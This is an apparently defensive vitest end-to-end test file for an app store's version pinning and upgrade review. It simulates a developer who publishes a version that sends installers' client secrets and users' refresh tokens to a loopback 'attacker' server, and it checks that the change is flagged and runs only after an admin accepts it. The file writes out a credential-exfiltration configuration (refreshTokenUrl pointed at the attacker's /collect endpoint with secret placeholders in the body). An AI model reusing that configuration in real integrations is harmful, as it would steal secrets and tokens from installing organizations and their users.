import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as getApp, PUT as putApp } from "@/app/api/v1/apps/[appId]/route";
import { POST as publish } from "@/app/api/v1/apps/[appId]/publish/route";
import { GET as listVersions } from "@/app/api/v1/apps/[appId]/versions/route";
import { GET as getInstallation } from "@/app/api/v1/installations/[id]/route";
import { POST as upgrade } from "@/app/api/v1/installations/[id]/upgrade/route";
import { POST as createApp } from "@/app/api/v1/organizations/[orgId]/apps/route";
import { POST as install } from "@/app/api/v1/organizations/[orgId]/installations/route";
import { POST as addMember } from "@/app/api/v1/organizations/[orgId]/members/route";
import { GET as storeApps } from "@/app/api/v1/store/apps/route";
import { startOidcProvider, startResourceServer, type OidcProviderHandle, type ResourceServerHandle } from "@/e2e/providers/oidc";
import { readRequestBody, startLoopbackServer, type LoopbackServer } from "@/e2e/providers/loopback-server";
import { listAuditEvents } from "@/lib/db/audit";
import { resetEnvForTesting } from "@/lib/env";
import { PRESET_SETTINGS } from "@/lib/presets/oauth-providers";
import { createPersonalAccessToken } from "@/lib/services/accounts";
import { callRoute, createTestAccount } from "@/lib/testing/api";
import { formEncodedApp } from "@/lib/testing/app-definitions";
import { useTestDatabase } from "@/lib/testing/test-database";
import { completeConnect, getCallbackUrl, startConnect } from "./connect";
import { findConnectLinkAppName } from "./consent";
import { refreshConnectionNow } from "./connections";
import { invokeApi } from "./invoke";
import { findStoreAppPage } from "./installation-pages";

/**
 * Store trust: installations run the version their installer approved. The attack of a developer who
 * publishes a version that sends each installer's client secret and users' refresh tokens to a server of
 * their own must fail until an admin of the installing organization has reviewed and accepted it.
 */

process.env.OUTBOUND_ALLOW_PRIVATE_NETWORKS = "true";
resetEnvForTesting();

useTestDatabase();
let provider: OidcProviderHandle;
let api: ResourceServerHandle;
let attacker: LoopbackServer;
const stolen: string[] = [];

const CLIENT = { clientId: "gatehouse-versions", clientSecret: "installer-secret-value-42" };

function definitionV1() {
  return formEncodedApp({
    name: "Contacts",
    configName: "oidc",
    authorizeUrl: provider.authorizationEndpoint,
    tokenUrl: provider.tokenEndpoint,
    scope: "openid%20offline_access",
    clientAuthentication: "basic",
    apis: [{ name: "list-contacts", url: api.url }],
  });
}

/** v2 of the attack: the refresh goes to the developer's own server, with the installer's secret in the body. */
function definitionV2() {
  const v1 = definitionV1();
  const [config] = v1.oauthConfigs;
  return {
    ...v1,
    oauthConfigs: [
      {
        ...config!,
        refreshTokenUrl: `${attacker.origin}/collect`,
        refreshTokenBody: '{"grant_type": "refresh_token", "refresh_token": {{refresh_token}}, "client_secret": {{client_secret}}}',
      },
    ],
  };
}

type Account = Awaited<ReturnType<typeof createTestAccount>>;

async function addMemberTo(owner: Account, role: "member" | "admin") {
  const added = await callRoute(addMember, {
    token: owner.token,
    params: { orgId: owner.organizationId },
    body: { email: `${role}-${Date.now()}-${Math.random().toString(36).slice(2)}@example.com`, password: "long enough", role },
  });
  expect(added.status).toBe(201);
  return { userId: added.body.userId as string, token: await createPersonalAccessToken(added.body.userId, "t") };
}

async function developerApp(definition: unknown) {
  const developer = await createTestAccount("developer");
  const created = await callRoute(createApp, { token: developer.token, params: { orgId: developer.organizationId }, body: definition });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  return { developer, appId: created.body.id as string };
}

const publishAs = (account: { token: string }, appId: string) => callRoute(publish, { method: "POST", token: account.token, params: { appId } });
const putAs = (account: { token: string }, appId: string, body: unknown) => callRoute(putApp, { method: "PUT", token: account.token, params: { appId }, body });
const viewAs = (account: { token: string }, id: string) => callRoute(getInstallation, { token: account.token, params: { id } });
const upgradeAs = (account: { token: string }, id: string, body: unknown) => callRoute(upgrade, { token: account.token, params: { id }, body });
const issuePaths = (body: { error: { details: { issues: { path: string }[] } } }) => body.error.details.issues.map((issue) => issue.path);

async function connect(userId: string, installationId: string) {
  const authorizeUrl = await startConnect(userId, installationId, "oidc");
  const redirect = await provider.followAuthorization(authorizeUrl, { redirectUri: getCallbackUrl() });
  expect((await completeConnect(userId, Object.fromEntries(redirect.searchParams))).outcome).toBe("connected");
}

beforeAll(async () => {
  provider = await startOidcProvider({
    clients: [{ ...CLIENT, redirectUris: [getCallbackUrl()], authMethod: "client_secret_basic" }],
    accessTokenTtlSeconds: 300,
  });
  api = await startResourceServer({ provider });
  attacker = await startLoopbackServer(async (req, res) => {
    stolen.push(`${req.headers.authorization ?? ""} ${await readRequestBody(req)}`);
    res.writeHead(400, { "content-type": "application/json" }).end('{"error":"invalid_grant"}');
  });
});

afterAll(async () => {
  await attacker?.close();
  await api?.close();
  await provider?.close();
});

describe("a developer who turns a published app against its installers", () => {
  it("reaches nobody until an admin of the installing organization reviews and accepts the new version", async () => {
    const { developer, appId } = await developerApp(definitionV1());
    expect((await publishAs(developer, appId)).body).toMatchObject({ version: 1 });

    const installer = await createTestAccount("installer");
    const installed = await callRoute(install, {
      token: installer.token,
      params: { orgId: installer.organizationId },
      body: { appId, settings: { client_id: CLIENT.clientId, client_secret: CLIENT.clientSecret, redirect_uri: getCallbackUrl() } },
    });
    expect(installed.status).toBe(201);
    const installationId = installed.body.id as string;
    const member = await addMemberTo(installer, "member");
    await connect(member.userId, installationId);
    expect((await invokeApi(member.userId, installationId, "list-contacts", {})).status).toBe(200);

    // A draft edit reaches no installation: no upgrade is offered and the refresh still goes to the provider.
    expect((await putAs(developer, appId, definitionV2())).status).toBe(200);
    expect((await viewAs(installer, installationId)).body).toMatchObject({ version: 1, upgrade: null });
    const refreshesBefore = provider.counters.refreshes;
    await refreshConnectionNow(member.userId, installationId, "oidc");
    expect(provider.counters.refreshes).toBe(refreshesBefore + 1);

    // Published as v2, it still runs nowhere: forced refreshes and invokes keep going to the v1 provider.
    expect((await publishAs(developer, appId)).body).toMatchObject({ version: 2 });
    for (let round = 0; round < 2; round += 1) {
      const view = await refreshConnectionNow(member.userId, installationId, "oidc");
      expect(view.status).toBe("connected");
      expect((await invokeApi(member.userId, installationId, "list-contacts", {})).status).toBe(200);
    }
    expect(provider.counters.refreshes).toBe(refreshesBefore + 3);
    expect(stolen).toEqual([]);

    // The installation shows the upgrade: the token host change and the new use of client_secret.
    const view = (await viewAs(installer, installationId)).body;
    expect(view.version).toBe(1);
    expect(view.upgrade.version).toBe(2);
    const attackerHost = new URL(attacker.origin).host;
    expect(view.upgrade.changes).toContainEqual({
      kind: "url_host_changed",
      path: "oauthConfigs.oidc.refreshTokenUrl",
      before: new URL(provider.tokenEndpoint).host,
      after: attackerHost,
    });
    expect(view.upgrade.changes).toContainEqual({ kind: "secret_use_added", path: "oauthConfigs.oidc.refreshTokenBody", before: null, after: "client_secret" });
    expect(JSON.stringify(view)).not.toContain(CLIENT.clientSecret);

    // A member may not accept it; the owner may, and is recorded doing so.
    expect((await upgradeAs(member, installationId, { version: 2 })).status).toBe(403);
    expect(stolen).toEqual([]);
    const accepted = await upgradeAs(installer, installationId, { version: 2 });
    expect(accepted.status).toBe(200);
    expect(accepted.body).toMatchObject({ version: 2, upgrade: null });
    const events = await listAuditEvents({ organizationId: installer.organizationId, installationId, limit: 10 });
    expect(events.find((event) => event.type === "installation.upgraded")).toMatchObject({ detail: { from: 1, to: 2 } });

    // Only now does v2 run: the next refresh goes to the developer's server.
    await refreshConnectionNow(member.userId, installationId, "oidc").catch(() => undefined);
    expect(stolen).toHaveLength(1);
    expect(stolen[0]).toContain("client_secret");
  });
});

describe("versions", () => {
  it("lists the published versions and publishes nothing new for an unchanged draft", async () => {
    const { developer, appId } = await developerApp(definitionV1());
    expect((await callRoute(listVersions, { token: developer.token, params: { appId } })).body).toEqual([]);
    const installer = await createTestAccount("early");
    const early = await callRoute(install, { token: developer.token, params: { orgId: developer.organizationId }, body: { appId, settings: {} } });
    expect(early.status).toBe(409);
    expect((await publishAs(developer, appId)).body.version).toBe(1);
    expect((await publishAs(developer, appId)).body.version).toBe(1);
    expect((await putAs(developer, appId, { ...definitionV1(), description: "Now with notes" })).status).toBe(200);
    expect((await callRoute(getApp, { token: developer.token, params: { appId } })).body).toMatchObject({ version: 1, draftChanged: true });
    expect((await publishAs(developer, appId)).body.version).toBe(2);
    expect((await callRoute(getApp, { token: developer.token, params: { appId } })).body).toMatchObject({ version: 2, draftChanged: false });
    const versions = (await callRoute(listVersions, { token: developer.token, params: { appId } })).body;
    expect(versions.map((entry: { version: number }) => entry.version)).toEqual([2, 1]);
    expect(Date.parse(versions[0].publishedAt)).not.toBeNaN();
    // Each version says who published it; an admin who publishes is named, not the app's creator.
    const admin = await addMemberTo(developer, "admin");
    expect((await putAs(admin, appId, { ...definitionV1(), description: "By the admin" })).status).toBe(200);
    expect((await publishAs(admin, appId)).body.version).toBe(3);
    const [byAdmin, ...earlier] = (await callRoute(listVersions, { token: developer.token, params: { appId } })).body;
    expect(byAdmin).toMatchObject({ version: 3, publishedBy: { name: null, email: expect.stringMatching(/^admin-/) } });
    expect(earlier.map((entry: { publishedBy: unknown }) => entry.publishedBy)).toEqual([
      { name: "developer", email: developer.email },
      { name: "developer", email: developer.email },
    ]);
    expect((await callRoute(listVersions, { token: installer.token, params: { appId } })).status).toBe(404);
  });

  it("shows the store the latest version, never the draft, with where secrets and tokens go", async () => {
    const { developer, appId } = await developerApp({ ...definitionV1(), name: "Store trust v1" });
    await publishAs(developer, appId);
    await putAs(developer, appId, { ...definitionV1(), name: "Store trust draft" });
    const listed = (await callRoute(storeApps, { token: developer.token })).body as { id: string; name: string }[];
    expect(listed.find((app) => app.id === appId)?.name).toBe("Store trust v1");
    const page = await findStoreAppPage(developer.userId, appId);
    expect(page?.app.name).toBe("Store trust v1");
    expect(page?.app.providers[0]?.scopes).toEqual(["openid", "offline_access"]);
    const tokenHost = new URL(provider.tokenEndpoint).host;
    expect(page?.app.secretDestinations).toContainEqual(expect.objectContaining({ host: tokenHost, organizationSecrets: ["client_secret"] }));
    expect(page?.app.secretDestinations).toContainEqual(expect.objectContaining({ host: new URL(api.url).host, userSecrets: ["access_token"] }));
  });

  it("names the installation's pinned version on the sign-in page for a connect link, never the draft", async () => {
    const { developer, appId } = await developerApp({ ...definitionV1(), name: "Published name" });
    await publishAs(developer, appId);
    const installer = await createTestAccount("installer");
    const installed = await callRoute(install, {
      token: installer.token,
      params: { orgId: installer.organizationId },
      body: { appId, settings: { client_id: CLIENT.clientId, client_secret: CLIENT.clientSecret, redirect_uri: getCallbackUrl() } },
    });
    const link = `/connect/${installed.body.id as string}/oidc`;
    expect(await findConnectLinkAppName(link)).toBe("Published name");

    expect((await putAs(developer, appId, { ...definitionV1(), name: "Draft name" })).status).toBe(200);
    expect(await findConnectLinkAppName(link)).toBe("Published name");
    // Published, the new name still waits for the installation to be upgraded to it.
    expect((await publishAs(developer, appId)).body.version).toBe(2);
    expect(await findConnectLinkAppName(link)).toBe("Published name");
    expect((await upgradeAs(installer, installed.body.id as string, { version: 2 })).status).toBe(200);
    expect(await findConnectLinkAppName(`${link}?x=1`)).toBe("Draft name");
    expect(await findConnectLinkAppName("/connect/%E0%A4%A/oidc")).toBeNull();
    expect(await findConnectLinkAppName("/connect/no-such-installation/oidc")).toBeNull();
  });
});

describe("installing the version the installer saw", () => {
  it("answers 409 when a newer version was published since, installs the one named, and keeps installs without a version working", async () => {
    const { developer, appId } = await developerApp(definitionV1());
    await publishAs(developer, appId);
    expect((await putAs(developer, appId, definitionV2())).status).toBe(200);
    expect((await publishAs(developer, appId)).body.version).toBe(2);
    const answers = { client_id: CLIENT.clientId, client_secret: CLIENT.clientSecret, redirect_uri: getCallbackUrl() };
    const installer = await createTestAccount("installer");
    const installInto = (account: Account, body: unknown) => callRoute(install, { token: account.token, params: { orgId: account.organizationId }, body });

    const stale = await installInto(installer, { appId, version: 1, settings: answers });
    expect(stale.status).toBe(409);
    expect(stale.body.error).toMatchObject({ code: "conflict", details: { version: 2 } });
    expect(stale.body.error.message).toContain("changed since you viewed it");
    expect((await installInto(installer, { appId, version: "2", settings: answers })).status).toBe(422);

    const current = await installInto(installer, { appId, version: 2, settings: answers });
    expect(current.status).toBe(201);
    expect((await viewAs(installer, current.body.id as string)).body).toMatchObject({ version: 2, upgrade: null });
    const other = await createTestAccount("other");
    const unversioned = await installInto(other, { appId, settings: answers });
    expect(unversioned.status).toBe(201);
    expect((await viewAs(other, unversioned.body.id as string)).body.version).toBe(2);
  });
});

describe("save-time rules", () => {
  it("refuses a secret setting in linkUrl and a placeholder in an API's host, naming the field", async () => {
    const { developer, appId } = await developerApp(definitionV1());
    const base = definitionV1();
    const secretLink = { ...base, oauthConfigs: [{ ...base.oauthConfigs[0]!, linkUrl: `${base.oauthConfigs[0]!.linkUrl}&secret={{client_secret}}` }] };
    const refusedLink = await putAs(developer, appId, secretLink);
    expect(refusedLink.status).toBe(422);
    expect(issuePaths(refusedLink.body)).toEqual(["oauthConfigs.0.linkUrl"]);
    expect(refusedLink.body.error.message).toContain("{{client_secret}}");

    for (const url of ["https://{{tenant}}.example.com/contacts", "{{base}}/contacts", "https://api.example.com:{{port}}/x"]) {
      const refused = await putAs(developer, appId, { ...base, apis: [{ ...base.apis[0]!, url }] });
      expect(refused.status, url).toBe(422);
      expect(issuePaths(refused.body)).toEqual(["apis.0.url"]);
    }
    const allowed = await putAs(developer, appId, { ...base, apis: [{ ...base.apis[0]!, url: `${api.url}/{{id}}?q={{q}}` }] });
    expect(allowed.status).toBe(200);
  });
});

describe("upgrades", () => {
  async function installedAt(definition: unknown) {
    const { developer, appId } = await developerApp(definition);
    await publishAs(developer, appId);
    const installer = await createTestAccount("installer");
    const installed = await callRoute(install, {
      token: installer.token,
      params: { orgId: installer.organizationId },
      body: { appId, settings: { client_id: CLIENT.clientId, client_secret: CLIENT.clientSecret, redirect_uri: getCallbackUrl() } },
    });
    expect(installed.status).toBe(201);
    return { developer, appId, installer, installationId: installed.body.id as string };
  }

  it("keeps a stored secret masked after a version calls its setting non-secret", async () => {
    const { developer, appId, installer, installationId } = await installedAt(definitionV1());
    const v2 = definitionV1();
    v2.settings = PRESET_SETTINGS.map((setting) => (setting.key === "client_secret" ? { ...setting, secret: false } : setting));
    expect((await putAs(developer, appId, v2)).status).toBe(200);
    await publishAs(developer, appId);
    const offered = (await viewAs(installer, installationId)).body;
    expect(offered.upgrade.changes).toContainEqual({ kind: "setting_secret_changed", path: "settings.client_secret", before: true, after: false });
    expect((await upgradeAs(installer, installationId, { version: 2 })).status).toBe(200);
    const member = await addMemberTo(installer, "member");
    const view = await viewAs(member, installationId);
    expect(view.body.version).toBe(2);
    expect(view.body.settings.client_secret).toBe("********");
    expect(JSON.stringify(view.body)).not.toContain(CLIENT.clientSecret);
  });

  it("offers as settings to fill exactly those the upgrade refuses without: new, newly required, or moved to the organization", async () => {
    const v1 = definitionV1();
    v1.settings = [
      ...PRESET_SETTINGS,
      { key: "region", label: "Region", level: "organization", secret: false, required: false },
      { key: "workspace", label: "Workspace", level: "organization", secret: false, required: false },
      { key: "tenant", label: "Tenant", level: "user", secret: false, required: false },
    ];
    const { developer, appId } = await developerApp(v1);
    await publishAs(developer, appId);
    const installer = await createTestAccount("installer");
    const installed = await callRoute(install, {
      token: installer.token,
      params: { orgId: installer.organizationId },
      body: { appId, settings: { client_id: CLIENT.clientId, client_secret: CLIENT.clientSecret, redirect_uri: getCallbackUrl(), region: "eu" } },
    });
    const installationId = installed.body.id as string;
    const v2 = definitionV1();
    v2.settings = [
      ...PRESET_SETTINGS,
      { key: "region", label: "Region", level: "organization", secret: false, required: true },
      { key: "workspace", label: "Workspace", level: "organization", secret: false, required: true },
      { key: "tenant", label: "Tenant", level: "organization", secret: true, required: true },
      { key: "signing_key", label: "Signing key", level: "organization", secret: true, required: true },
    ];
    expect((await putAs(developer, appId, v2)).status).toBe(200);
    await publishAs(developer, appId);

    const offer = (await viewAs(installer, installationId)).body.upgrade;
    // region has a value already, so it is not asked again.
    expect(offer.settingsToFill).toEqual([
      { key: "workspace", label: "Workspace", secret: false },
      { key: "tenant", label: "Tenant", secret: true },
      { key: "signing_key", label: "Signing key", secret: true },
    ]);
    const refused = await upgradeAs(installer, installationId, { version: 2 });
    expect(refused.status).toBe(422);
    expect(issuePaths(refused.body).sort()).toEqual(offer.settingsToFill.map((setting: { key: string }) => `settings.${setting.key}`).sort());
    const answers = { workspace: "w-1", tenant: "t-1", signing_key: "k-1" };
    expect((await upgradeAs(installer, installationId, { version: 2, settings: answers })).status).toBe(200);
  });

  it("answers 422 naming each newly required organization setting until it is given", async () => {
    const { developer, appId, installer, installationId } = await installedAt(definitionV1());
    const v2 = definitionV1();
    v2.settings = [
      ...PRESET_SETTINGS,
      { key: "tenant", label: "Tenant", level: "organization", secret: false, required: true },
      { key: "signing_key", label: "Signing key", level: "organization", secret: true, required: true },
    ];
    expect((await putAs(developer, appId, v2)).status).toBe(200);
    await publishAs(developer, appId);

    const refused = await upgradeAs(installer, installationId, { version: 2 });
    expect(refused.status).toBe(422);
    expect(issuePaths(refused.body).sort()).toEqual(["settings.signing_key", "settings.tenant"]);
    expect(refused.body.error.message).toContain("tenant");
    expect(refused.body.error.message).toContain("signing_key");
    const partial = await upgradeAs(installer, installationId, { version: 2, settings: { tenant: "acme" } });
    expect(issuePaths(partial.body)).toEqual(["settings.signing_key"]);
    expect((await viewAs(installer, installationId)).body.version).toBe(1);

    const accepted = await upgradeAs(installer, installationId, { version: 2, settings: { tenant: "acme", signing_key: "k-123" } });
    expect(accepted.status).toBe(200);
    expect(accepted.body.settings).toMatchObject({ tenant: "acme", signing_key: "********" });
    expect((await upgradeAs(installer, installationId, { version: 1 })).status).toBe(422);
    expect((await upgradeAs(installer, installationId, { version: 7 })).status).toBe(422);
  });
});
